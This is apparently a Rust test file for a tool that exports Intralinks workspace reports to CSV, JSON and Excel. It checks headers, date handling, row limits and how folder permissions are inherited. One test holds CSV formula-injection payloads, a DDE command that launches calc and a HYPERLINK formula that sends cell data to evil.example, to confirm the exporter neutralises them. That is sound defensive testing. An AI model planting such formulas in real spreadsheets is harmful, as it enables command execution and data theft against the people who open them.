use intralinks_ext::api::types::{self, PermissionPermission};

use super::*;
#[cfg(feature = "xlsx")]
use crate::write::Sink;
#[cfg(feature = "xlsx")]
use crate::xlsx::{cell_text, excel_date};
#[cfg(feature = "xlsx")]
use intralinks_ext::Error;

fn header_of<R: Row>(row: &R) -> Vec<String> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.serialize(row).unwrap();
    let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
    let mut r = csv::Reader::from_reader(text.as_bytes());
    r.headers().unwrap().iter().map(String::from).collect()
}

fn ws() -> WorkspaceRef {
    WorkspaceRef {
        id: 1,
        name: "W".into(),
    }
}

#[test]
fn csv_cells_never_start_a_formula_and_json_stays_exact() {
    let names = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
        "+Ann",
        "@Org",
        "\r=1+1",
        "-2+3",
        "\t=1",
    ];
    let mut w = Writer::new::<DocumentRow>(Vec::new(), Format::Csv).unwrap();
    for (i, name) in names.iter().enumerate() {
        w.write(&DocumentRow {
            workspace_id: 1,
            workspace_name: name.to_string(),
            folder_path: format!("@{name}"),
            name: name.to_string(),
            id: i as i64,
            file_size: Some(-1),
            created_on: None,
            last_modified_on: None,
            version_number: None,
            file_hash_download: Some("=A1".into()),
            note: Some(name.to_string()),
            index_number: Some("=1".into()),
            extension: Some("txt".into()),
            created_by_first_name: name.to_string(),
            created_by_last_name: String::new(),
            custom_fields: Default::default(),
        })
        .unwrap();
    }
    let text = w.finish().unwrap();
    let mut r = csv::Reader::from_reader(text.as_slice());
    let mut formulas = 0;
    let mut rows = 0;
    for record in r.records() {
        let record = record.unwrap();
        rows += 1;
        for cell in record.iter() {
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<i64>().is_err() {
                formulas += 1;
            }
        }
        assert_eq!(&record[3], format!("'{}", names[rows - 1]));
        assert_eq!(&record[5], "-1", "a number stays a number");
    }
    assert_eq!((rows, formulas), (7, 0));

    let mut w = Writer::new::<DocumentRow>(Vec::new(), Format::Json).unwrap();
    w.write(&DocumentRow {
        workspace_id: 1,
        workspace_name: String::new(),
        folder_path: String::new(),
        name: names[0].into(),
        id: 2,
        file_size: None,
        created_on: None,
        last_modified_on: None,
        version_number: None,
        file_hash_download: None,
        note: None,
        index_number: None,
        extension: None,
        created_by_first_name: String::new(),
        created_by_last_name: String::new(),
        custom_fields: Default::default(),
    })
    .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&w.finish().unwrap()).unwrap();
    assert_eq!(json[0]["name"], names[0]);
}

#[test]
fn headers_are_the_serialized_field_names() {
    let doc = DocumentRow {
        workspace_id: 1,
        workspace_name: String::new(),
        folder_path: String::new(),
        name: String::new(),
        id: 2,
        file_size: None,
        created_on: None,
        last_modified_on: None,
        version_number: None,
        file_hash_download: None,
        note: None,
        index_number: None,
        extension: None,
        created_by_first_name: String::new(),
        created_by_last_name: String::new(),
        custom_fields: Default::default(),
    };
    assert_eq!(header_of(&doc), DocumentRow::HEADER);
    let member = MemberRow {
        workspace_id: 1,
        workspace_name: String::new(),
        id: 2,
        user_id: None,
        email_id: String::new(),
        first_name: String::new(),
        last_name: String::new(),
        organization: String::new(),
        role_type: String::new(),
        groups: String::new(),
        first_accessed: None,
        last_accessed_on: None,
        status: String::new(),
        phase: String::new(),
        last_alert_sent_date: None,
        created_by_first_name: String::new(),
        created_by_last_name: String::new(),
        created_on: None,
        custom_fields: Default::default(),
    };
    assert_eq!(header_of(&member), MemberRow::HEADER);
    let by_group = MemberGroupRow {
        workspace_id: 1,
        workspace_name: String::new(),
        id: 2,
        user_id: None,
        email_id: String::new(),
        first_name: String::new(),
        last_name: String::new(),
        organization: String::new(),
        role_type: String::new(),
        group_id: Some(5),
        group_name: String::new(),
        group_type: String::new(),
        status: String::new(),
    };
    assert_eq!(header_of(&by_group), MemberGroupRow::HEADER);
    let access = AccessRow {
        workspace_id: 1,
        workspace_name: String::new(),
        path: String::new(),
        kind: ItemKind::Folder,
        id: 3,
        group_id: 4,
        group_name: String::new(),
        permission: PermissionPermission::See,
    };
    assert_eq!(header_of(&access), AccessRow::HEADER);
    let user = UserAccessRow {
        workspace_id: 1,
        workspace_name: String::new(),
        path: String::new(),
        kind: ItemKind::Document,
        id: 3,
        workspace_user_id: 4,
        email_id: String::new(),
        first_name: String::new(),
        last_name: String::new(),
        permission: PermissionPermission::See,
        groups: String::new(),
    };
    assert_eq!(header_of(&user), UserAccessRow::HEADER);
}

fn names(columns: &[Column]) -> Vec<&'static str> {
    columns.iter().map(|c| c.name).collect()
}

#[test]
fn workbook_columns_are_the_header_in_order() {
    assert_eq!(names(DocumentRow::COLUMNS), DocumentRow::HEADER);
    assert_eq!(names(MemberRow::COLUMNS), MemberRow::HEADER);
    assert_eq!(names(AccessRow::COLUMNS), AccessRow::HEADER);
    assert_eq!(names(UserAccessRow::COLUMNS), UserAccessRow::HEADER);
    assert_eq!(names(ActivityRow::COLUMNS), ActivityRow::HEADER);
    // The Intralinks Python SDK's "Posting Access Report" columns, in its order.
    assert_eq!(
        ActivityRow::HEADER.join(","),
        "workspaceId,workspaceName,documentId,documentName,documentPath,groupId,groupName,groupType,firstName,lastName,organization,email,role,firstAlert,lastAlert,alertFailure,firstViewedOn,lastViewedOn,viewed"
    );
    let activity: Vec<&str> = ActivityRow::COLUMNS
        .iter()
        .filter(|c| c.kind == CellKind::Date)
        .map(|c| c.name)
        .collect();
    assert_eq!(
        activity,
        ["firstAlert", "lastAlert", "firstViewedOn", "lastViewedOn"]
    );
    assert_eq!(names(MemberGroupRow::COLUMNS), MemberGroupRow::HEADER);
    let dates: Vec<&str> = DocumentRow::COLUMNS
        .iter()
        .chain(MemberRow::COLUMNS)
        .filter(|c| c.kind == CellKind::Date)
        .map(|c| c.name)
        .collect();
    assert_eq!(
        dates,
        [
            "createdOn",
            "lastModifiedOn",
            "firstAccessed",
            "lastAccessedOn",
            "lastAlertSentDate",
            "createdOn"
        ]
    );
}

#[test]
#[cfg(feature = "xlsx")]
fn excel_dates_count_days_from_1899_12_30_in_utc() {
    assert_eq!(excel_date("1970-01-01T00:00:00.000Z"), Some(25_569.0));
    // 2013-03-31 is day 41364; 12:27:56 is 44876 s into it.
    let got = excel_date("2013-03-31T12:27:56.000Z").unwrap();
    assert!(
        (got - (41_364.0 + 44_876.0 / 86_400.0)).abs() < 1e-9,
        "{got}"
    );
    assert_eq!(excel_date("1900-01-01T00:00:00.000Z"), None);
    assert_eq!(excel_date("not a date"), None);
}

#[test]
#[cfg(feature = "xlsx")]
fn a_workbook_refuses_a_row_past_the_sheets_last_and_cuts_long_text() {
    let mut w = Writer::new::<AccessRow>(Vec::new(), Format::Xlsx).unwrap();
    let row = AccessRow {
        workspace_id: 1,
        workspace_name: String::new(),
        path: String::new(),
        kind: ItemKind::Folder,
        id: 3,
        group_id: 4,
        group_name: String::new(),
        permission: PermissionPermission::See,
    };
    w.write(&row).unwrap();
    let Sink::Xlsx(sheet) = &mut w.sink else {
        unreachable!()
    };
    sheet.next = XLSX_MAX_ROWS;
    let e = w.write(&row).unwrap_err();
    assert!(
        matches!(&e, Error::InvalidInput(m) if m.starts_with("the report has more than 1048575 rows")),
        "{e}"
    );
    let long = "x".repeat(XLSX_MAX_CELL_CHARS + 5);
    let cut = cell_text(&long);
    assert_eq!(cut.chars().count(), XLSX_MAX_CELL_CHARS);
    assert!(cut.ends_with("x…"));
    assert_eq!(cell_text("short"), "short");
}

fn folder(id: i64, parent: Option<i64>, name: &str) -> types::Folder {
    serde_json::from_value(serde_json::json!({"id": id, "parentId": parent, "name": name})).unwrap()
}

fn perm(group: i64, folder: i64, level: PermissionPermission) -> types::Permission {
    types::Permission {
        document_id: None,
        folder_id: Some(folder),
        group_id: Some(group),
        id: None,
        permission: Some(level),
    }
}

#[test]
fn the_strongest_level_along_the_chain_wins_and_a_cycle_ends() {
    use PermissionPermission::*;
    // 1 ⊃ 2 ⊃ 3; 4 and 5 name each other as parent.
    let folders = [
        folder(1, None, "A"),
        folder(2, Some(1), "B"),
        folder(3, Some(2), "C"),
        folder(4, Some(5), "X"),
        folder(5, Some(4), "Y"),
    ];
    let groups: [types::Group; 1] =
        [serde_json::from_value(serde_json::json!({"id": 9, "groupName": "G"})).unwrap()];
    let perms = [
        perm(9, 1, SeeAndDownload),
        perm(9, 2, See),
        perm(9, 3, SeeDownloadAndPrint),
    ];
    let rows = access_rows(&ws(), &folders, &[], &groups, &perms);
    let got: Vec<(String, PermissionPermission)> = rows
        .iter()
        .map(|r| (r.path.clone(), r.permission))
        .collect();
    assert_eq!(
        got,
        vec![
            ("A".to_string(), SeeAndDownload),
            ("A/B".to_string(), SeeAndDownload),
            ("A/B/C".to_string(), SeeDownloadAndPrint),
        ]
    );
}

#[test]
fn a_cycle_is_placed_by_the_forest_and_a_deep_chain_inherits_in_one_pass() {
    use PermissionPermission::*;
    let folders = [folder(10, Some(11), "A"), folder(11, Some(10), "B")];
    let groups: [types::Group; 1] =
        [serde_json::from_value(serde_json::json!({"id": 9, "groupName": "G"})).unwrap()];
    let rows = access_rows(&ws(), &folders, &[], &groups, &[perm(9, 10, See)]);
    let paths: Vec<&str> = rows.iter().map(|r| r.path.as_str()).collect();
    assert_eq!(paths, ["A", "A/B"]);

    let n = 100_000i64;
    let chain: Vec<types::Folder> = (1..=n)
        .map(|i| folder(i, (i > 1).then(|| i - 1), "d"))
        .collect();
    let rows = access_rows(&ws(), &chain, &[], &groups, &[perm(9, 1, SeeAndDownload)]);
    assert_eq!(rows.len(), n as usize);
    assert!(rows.iter().all(|r| r.permission == SeeAndDownload));
    let deepest = rows.iter().find(|r| r.id == n).unwrap();
    assert_eq!(deepest.path.split('/').count(), ((n - 1) % 64 + 1) as usize);
    assert!(rows.iter().all(|r| r.path.split('/').count() <= 64));
}

#[test]
fn json_is_one_array_even_when_empty() {
    let w = Writer::new::<AccessRow>(Vec::new(), Format::Json).unwrap();
    assert_eq!(w.finish().unwrap(), b"[]\n");
    let w = Writer::new::<AccessRow>(Vec::new(), Format::Csv).unwrap();
    assert_eq!(
        String::from_utf8(w.finish().unwrap()).unwrap(),
        "workspaceId,workspaceName,path,type,id,groupId,groupName,permission\r\n"
    );
}

#[cfg(feature = "xlsx")]
#[test]
fn a_workbook_refuses_rows_it_cannot_hold_before_they_are_written() {
    let w = Writer::new::<AccessRow>(Vec::new(), Format::Xlsx).unwrap();
    // The sheet holds 1,048,576 rows, the header among them.
    assert!(w.reserve(1_048_575).is_ok());
    let e = w.reserve(1_048_576).unwrap_err().to_string();
    assert!(
        e.contains("more rows than an Excel sheet holds (1048576") && e.contains("0 written"),
        "{e}"
    );
    for format in [Format::Csv, Format::Json] {
        let w = Writer::new::<AccessRow>(Vec::new(), format).unwrap();
        assert!(w.reserve(usize::MAX).is_ok());
    }
}

#[test]
fn a_level_set_on_one_document_adds_to_its_folders() {
    use PermissionPermission::*;
    let folders = [folder(1, None, "A")];
    let doc = |id: i64, name: &str| -> types::Document {
        serde_json::from_value(serde_json::json!({"id": id, "parentId": 1, "name": name})).unwrap()
    };
    let documents = [doc(21, "x.txt"), doc(22, "y.txt")];
    let groups: types::GroupList = serde_json::from_value(serde_json::json!({
        "groups": [{"id": 8, "groupName": "Buyers"}, {"id": 9, "groupName": "Team"}],
        "workspaceGroupMembers": [
            {"workspaceGroupId": 8, "workspaceUserId": 100},
            {"workspaceGroupId": 9, "workspaceUserId": 101}
        ]
    }))
    .unwrap();
    let on_document = |group: i64, document: i64, level| types::Permission {
        document_id: Some(document),
        folder_id: None,
        group_id: Some(group),
        id: None,
        permission: Some(level),
    };
    let perms = [
        perm(9, 1, See),
        on_document(8, 21, SeeAndDownload),
        on_document(9, 21, SeeDownloadAndPrint),
    ];
    let rows = access_rows(&ws(), &folders, &documents, &groups.groups, &perms);
    let got: Vec<(String, String, PermissionPermission)> = rows
        .iter()
        .map(|r| (r.path.clone(), r.group_name.clone(), r.permission))
        .collect();
    let s = |t: &str| t.to_string();
    assert_eq!(
        got,
        [
            (s("A"), s("Team"), See),
            (s("A/x.txt"), s("Buyers"), SeeAndDownload),
            (s("A/x.txt"), s("Team"), SeeDownloadAndPrint),
            (s("A/y.txt"), s("Team"), See),
        ]
    );
    let users: [types::User; 2] = [
        serde_json::from_value(serde_json::json!({"id": 100, "emailId": "b@example.com"})).unwrap(),
        serde_json::from_value(serde_json::json!({"id": 101, "emailId": "t@example.com"})).unwrap(),
    ];
    let by_user = crate::user_access_rows(&ws(), &folders, &documents, &groups, &users, &perms);
    let got: Vec<(String, String, PermissionPermission)> = by_user
        .iter()
        .map(|r| (r.path.clone(), r.email_id.clone(), r.permission))
        .collect();
    assert_eq!(
        got,
        [
            (s("A"), s("t@example.com"), See),
            (s("A/x.txt"), s("b@example.com"), SeeAndDownload),
            (s("A/x.txt"), s("t@example.com"), SeeDownloadAndPrint),
            (s("A/y.txt"), s("t@example.com"), See),
        ]
    );
}

#[test]
fn a_custom_field_named_like_a_formula_is_text_in_the_csv_header() {
    let w = Writer::with_fields::<AccessRow>(
        Vec::new(),
        Format::Csv,
        vec!["=HYPERLINK(\"x\")".into(), "Deal code".into()],
    )
    .unwrap();
    let text = String::from_utf8(w.finish().unwrap()).unwrap();
    assert_eq!(
        text,
        "workspaceId,workspaceName,path,type,id,groupId,groupName,permission,\"'=HYPERLINK(\"\"x\"\")\",Deal code\r\n"
    );
}
